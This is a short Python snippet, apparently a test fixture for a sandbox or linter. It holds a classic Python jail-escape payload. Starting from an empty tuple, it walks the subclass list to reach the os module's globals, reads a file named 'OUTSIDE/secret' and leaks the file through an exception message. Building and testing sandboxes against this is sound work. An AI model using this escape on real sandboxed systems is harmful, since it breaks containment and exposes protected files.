"""Finds a class that knows the operating system, from an empty tuple on."""
# lint: `__class__`
# jail: PermissionError
# alone: secret

for found in ().__class__.__base__.__subclasses__():
    if found.__name__ == "_wrap_close":
        held = found.__init__.__globals__
raise RuntimeError(held["read"](held["open"]("OUTSIDE/secret", 0), 100))
